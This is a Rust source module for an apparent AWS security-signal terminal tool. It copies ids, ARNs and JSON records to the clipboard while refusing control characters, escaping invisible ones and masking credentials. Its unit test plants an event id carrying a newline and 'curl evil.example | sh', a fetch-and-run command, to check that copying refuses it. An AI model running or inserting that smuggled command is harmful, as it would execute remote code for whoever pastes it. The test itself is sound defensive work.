//! `y`, `Y`, `c`: the selected id, ARN or record to the clipboard (OSC 52). What is copied is
//! pasted somewhere that may act on it (a shell): ids with control or invisible characters are
//! refused, records are copied with such characters escaped, credentials masked.

use super::msg::Effect;
use super::state::{PaneId, State};
use crate::keymap::Command;

pub(super) fn copy(state: &mut State, what: Command) -> Vec<Effect> {
    let signal = super::commands::row_signal(state).cloned();
    // The JSON and the ARN come from the original record: read it first when it is in a file.
    if let Some(s) = signal.as_ref().filter(|_| what != Command::CopyId) {
        let wanted = super::records::unread(state, [s]);
        if !wanted.is_empty() {
            return super::records::wait_for(state, wanted, Some(what));
        }
        if let Some(why) =
            s.id.with_str(|id| super::records::failure(state, id))
                .filter(|_| s.raw.file_span().is_some())
        {
            let why = format!("not copied: the original record cannot be read: {why}");
            state.toast(crate::safe_text::line(&why).into_owned(), true);
            return Vec::new();
        }
    }
    // Copying a sensitive record one may see is a reveal: it goes to the audit log.
    let reveal = match (&signal, what) {
        (Some(s), Command::CopyJson) if !super::routing::is_hidden(state, s) => {
            super::routing::reveal(state, s)
        }
        _ => Vec::new(),
    };
    let text = match (what, signal) {
        (Command::CopyId, Some(s)) => {
            let id = s.id.to_string();
            id.split_once(':')
                .map(|(_, id)| id.to_string())
                .unwrap_or(id)
        }
        (Command::CopyArn, Some(s)) if super::routing::is_hidden(state, &s) => {
            state.toast("sensitive: your principal may not copy its details", true);
            return Vec::new();
        }
        (Command::CopyArn, Some(s)) => arn_of(&s).unwrap_or(s.id.to_string()),
        (Command::CopyJson, Some(s)) if super::routing::hiding(state, &s).is_some() => {
            state.toast("sensitive: your principal may not copy its details", true);
            return Vec::new();
        }
        // JSON escapes C0 controls; C1, bidi and invisible characters are escaped too, so the
        // copy pastes as the text it shows.
        (Command::CopyJson, Some(s)) => crate::safe_text::json_text(
            serde_json::to_string_pretty(&s.raw.decoded()).unwrap_or_default(),
        ),
        (_, None) => match state.selected_entity() {
            Some(e) if state.view.focus == PaneId::Entities => e.id.to_string(),
            _ => return Vec::new(),
        },
        _ => return Vec::new(),
    };
    // An id or ARN is one plain word: one holding a newline, an escape or an invisible
    // character is refused (pasted into a shell, a newline runs what follows).
    if what != Command::CopyJson && crate::safe_text::has_unsafe(&text) {
        state.toast(
            format!(
                "not copied: it holds control or invisible characters (shown cleaned: {})",
                crate::safe_text::line(&text)
                    .chars()
                    .take(60)
                    .collect::<String>()
            ),
            true,
        );
        return Vec::new();
    }
    let preview: String = text.chars().take(40).collect();
    state.toast(
        format!(
            "copied {} chars: {}",
            text.chars().count(),
            crate::safe_text::line(&preview)
        ),
        false,
    );
    let mut fx = reveal;
    fx.push(Effect::Copy(text));
    fx
}

/// The ARN a responder most likely wants from a signal.
fn arn_of(s: &crate::model::Signal) -> Option<String> {
    let raw = &s.raw.decoded();
    let find = |ptr: &str| {
        raw.pointer(ptr)
            .and_then(|v| v.as_str())
            .map(str::to_string)
    };
    find("/arn")
        .or_else(|| find("/detail/arn"))
        .or_else(|| find("/Arn"))
        .or_else(|| find("/eventBridge/detail/eventArn"))
        .or_else(|| find("/describeEvents/arn"))
        .or_else(|| find("/userIdentity/arn"))
        .or_else(|| find("/detail/userIdentity/arn"))
        .or_else(|| s.id.as_str().strip_prefix("health:").map(str::to_string))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::keymap::Keymap;
    use crate::normalize::{normalize_record, Options};

    fn state_with(id: &str) -> State {
        let mut s = State::new("t", Keymap::default(), chrono::Utc::now());
        let f = serde_json::json!({"eventVersion":"1.08","eventID": id,"eventName":"AssumeRole",
            "eventSource":"sts.amazonaws.com","eventTime":"2026-11-28T00:00:00Z","awsRegion":"us-east-1",
            "recipientAccountId":"111122223333","userIdentity":{"type":"IAMUser","userName":"alice"},
            "responseElements":{"credentials":{"accessKeyId":"ASIAEXAMPLE","secretAccessKey":"wJalrSECRET",
            "sessionToken":"IQoSECRET\u{202e}"}}});
        let (_, n) = normalize_record(f, &Options::default()).unwrap();
        s.view.store.insert(n);
        s.view.focus = PaneId::CloudTrail;
        s.pane_mut(PaneId::CloudTrail).rows = vec![0];
        s
    }

    #[test]
    fn an_id_that_would_run_when_pasted_is_refused_and_records_are_escaped_and_masked() {
        let mut s = state_with("e1\ncurl evil.example | sh");
        assert!(copy(&mut s, Command::CopyId).is_empty(), "refused");
        assert!(s.ui.toasts.last().unwrap().text.contains("not copied"));
        let fx = copy(&mut s, Command::CopyJson);
        let [Effect::Copy(text)] = fx.as_slice() else {
            panic!("{fx:?}")
        };
        assert!(
            !text.contains("wJalrSECRET") && !text.contains("IQoSECRET"),
            "{text}"
        );
        assert!(
            text.contains("\\ncurl"),
            "the newline inside the id is escaped: {text}"
        );
        let mut s = state_with("e2");
        assert!(matches!(copy(&mut s, Command::CopyId).as_slice(), [Effect::Copy(t)] if t == "e2"));
    }
}
